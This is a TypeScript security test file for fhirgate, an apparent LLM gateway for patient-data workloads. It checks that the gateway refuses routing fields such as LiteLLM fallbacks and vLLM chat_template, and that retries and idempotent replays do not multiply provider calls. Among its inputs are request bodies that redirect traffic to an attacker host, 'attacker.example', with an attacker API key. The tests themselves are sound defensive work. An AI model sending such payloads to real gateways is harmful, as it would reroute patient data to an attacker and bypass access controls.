/**
 * What a caller can make fhirgate's provider call do beyond the turn it was checked for.
 * - Request fields: a field fhirgate does not know, sent to an OpenAI-compatible provider, is read by a gateway
 *   behind it (LiteLLM's `fallbacks`, `mock_testing_fallbacks`, `user_config`, `api_base`; vLLM's `chat_template`)
 *   as routing: the turn would go to another model or URL than the one model access, patient-data rules and budgets
 *   checked. Let through when the field reaches the provider, or the request is answered 200 at all (the security
 *   host's gateway lists no field to pass on).
 * - Retries: the openai SDK (default `maxRetries`) against a provider that fails with 500: fhirgate has retried, so
 *   the answer must stop the SDK's own retries, or one call makes several turns and multiplies the provider's calls.
 *   And a request repeated under its Idempotency-Key after such a failure must not call the provider again.
 *
 * The provider's 500 is answered with the spec's 500 `upstream_error`: that is the expected answer, not a failure of
 * fhirgate, so the retry attacks report status 0 (the 5xx count stays the count of fhirgate's own failures) and say
 * the status in their note.
 */
import OpenAI from 'openai';
import { GATEWAY, type SecurityContext } from './context.ts';
import { refused, type AttackOutcome } from './suite.ts';

const FIELDS_KIND = 'request fields';
const RETRIES_KIND = 'retries';
const MODEL = `${GATEWAY.provider}/${GATEWAY.model}`;
/** The provider calls one failed turn may make: the first, and fhirgate's own retries. */
const CALLS_PER_TURN = GATEWAY.maxRetries + 1;
/** Records of one turn in a new conversation: its root, its prompt, its reply. */
const RECORDS_PER_TURN = 3;
const FAILING = `[emulator-behaviour ${JSON.stringify({ errorStatus: 500 })}]`;

/** Fields a gateway behind an OpenAI-compatible provider reads as routing or credentials. */
const ROUTING_FIELDS: readonly (readonly [string, Record<string, unknown>])[] = [
  ["LiteLLM's fallbacks onto a model not cleared for patient data", { fallbacks: [{ [GATEWAY.model]: ['gpt-4o-uncleared'] }] }],
  ["LiteLLM's mock_testing_fallbacks", { mock_testing_fallbacks: true }],
  [
    "LiteLLM's user_config: a model_list with the attacker's api_base and key",
    { user_config: { model_list: [{ model_name: GATEWAY.model, litellm_params: { model: 'openai/gpt-4o', api_base: 'https://attacker.example/v1', api_key: 'sk-attacker' } }] } },
  ],
  ["LiteLLM's api_base", { api_base: 'https://attacker.example/v1' }],
  ["vLLM's chat_template", { chat_template: '{% for message in messages %}{{ message.content }}{% endfor %}' }],
];

export async function surfaceAttacks(context: SecurityContext): Promise<void> {
  await requestFieldAttacks(context);
  await retryAttacks(context);
}

async function requestFieldAttacks(context: SecurityContext): Promise<void> {
  const { log, tokenA, emulator } = context;
  const cases = [
    ...ROUTING_FIELDS.map(([name, fields]) => [name, fields, false] as const),
    ["LiteLLM's fallbacks on a stream", ROUTING_FIELDS[0][1], true] as const,
  ];
  for (const [name, fields, stream] of cases) {
    await log.run(FIELDS_KIND, `${name}, to an OpenAI-compatible provider`, async () => {
      const [field] = Object.keys(fields);
      const stored = await context.storedCommunications();
      const calls = context.providerCalls();
      const response = await context.chat(tokenA, { model: MODEL, stream, messages: [{ role: 'user', content: 'Summarise the last visit.' }], ...fields });
      const text = await response.text();
      const reached = emulator.received.slice(calls).some((received) => Object.hasOwn(received.body, field));
      const sideEffect = reached
        ? `${field} reached the provider`
        : context.providerCalls() !== calls
          ? 'provider called'
          : (await context.storedCommunications()) !== stored
            ? 'stored'
            : undefined;
      const outcome = refused(response.status, [400], sideEffect);
      if (outcome.letThrough || response.status !== 400) {
        return outcome;
      }
      const param = (JSON.parse(text) as { error?: { param?: string } }).error?.param;
      return param === field ? outcome : { ...outcome, note: `expected 400 naming ${field}, got param ${String(param)}` };
    });
  }
}

async function retryAttacks(context: SecurityContext): Promise<void> {
  const { log, host, tokenA, projectA } = context;
  // The SDK as an application would make it: its default retries (2), which obey x-should-retry.
  const openai = new OpenAI({ baseURL: `${host.url}v1`, apiKey: tokenA, defaultHeaders: { 'X-Project-ID': projectA.projectId } });
  const sdkCalls: readonly (readonly [string, () => Promise<unknown>])[] = [
    ['a chat completion', () => openai.chat.completions.create({ model: MODEL, messages: [{ role: 'user', content: `Summarise the last visit. ${FAILING}` }] })],
    ['a streamed chat completion', () => openai.chat.completions.create({ model: MODEL, stream: true, messages: [{ role: 'user', content: `Summarise the last visit. ${FAILING}` }] })],
    ['a Responses API request', () => openai.responses.create({ model: MODEL, input: `Summarise the last visit. ${FAILING}` })],
  ];
  for (const [name, call] of sdkCalls) {
    await log.run(RETRIES_KIND, `one openai SDK call (default retries), ${name}, against a provider 500`, async () => {
      const stored = await context.storedCommunications();
      const calls = context.providerCalls();
      const failure = await call().then(
        () => undefined,
        (error: unknown) => error,
      );
      const status = failure instanceof OpenAI.APIError ? failure.status : undefined;
      const providerCalls = context.providerCalls() - calls;
      const turns = Math.ceil(((await context.storedCommunications()) - stored) / RECORDS_PER_TURN);
      return outcomeOf(providerCalls > CALLS_PER_TURN || turns > 1, status ?? 0, `answered ${status ?? 'no status'}, x-should-retry ${failure instanceof OpenAI.APIError ? failure.headers?.get('x-should-retry') : 'none'}; ${providerCalls} provider calls (fhirgate's retries allow ${CALLS_PER_TURN}), ${turns} conversations`);
    });
  }

  const routes: readonly (readonly [string, string, Record<string, unknown>])[] = [
    ['chat completions', 'v1/chat/completions', { model: MODEL, messages: [{ role: 'user', content: `Summarise the chart. ${FAILING}` }] }],
    ['the Responses API', 'v1/responses', { model: MODEL, input: `Summarise the chart. ${FAILING}` }],
  ];
  for (const [name, path, body] of routes) {
    await log.run(RETRIES_KIND, `the same request twice with one Idempotency-Key after a provider 500, on ${name}`, async () => {
      const key = `surface-${path}-${Date.now()}`;
      const send = async (): Promise<{ status: number; body: string; replayed: string | null }> => {
        const response = await fetch(`${host.url}${path}`, {
          method: 'POST',
          headers: { 'Content-Type': 'application/json', Authorization: `Bearer ${tokenA}`, 'X-Project-ID': projectA.projectId, 'Idempotency-Key': key },
          body: JSON.stringify(body),
        });
        return { status: response.status, body: await response.text(), replayed: response.headers.get('idempotent-replayed') };
      };
      const first = await send();
      const calls = context.providerCalls();
      const second = await send();
      const calledAgain = context.providerCalls() - calls;
      const same = second.status === first.status && second.body === first.body;
      return outcomeOf(calledAgain > 0 || !same, second.status, `answered ${first.status}, then ${second.status}${second.replayed ? ' (replayed)' : ''}${same ? ', the same error' : ', another answer'}; the provider called ${calledAgain} more times`);
    });
  }
}

/** The provider's own 500, passed on, is the answer these attacks call for; `status` 0 where an SDK saw it. */
function outcomeOf(letThrough: boolean, status: number, note: string): AttackOutcome {
  return { status, letThrough, note, expectedServerStatus: 500 };
}
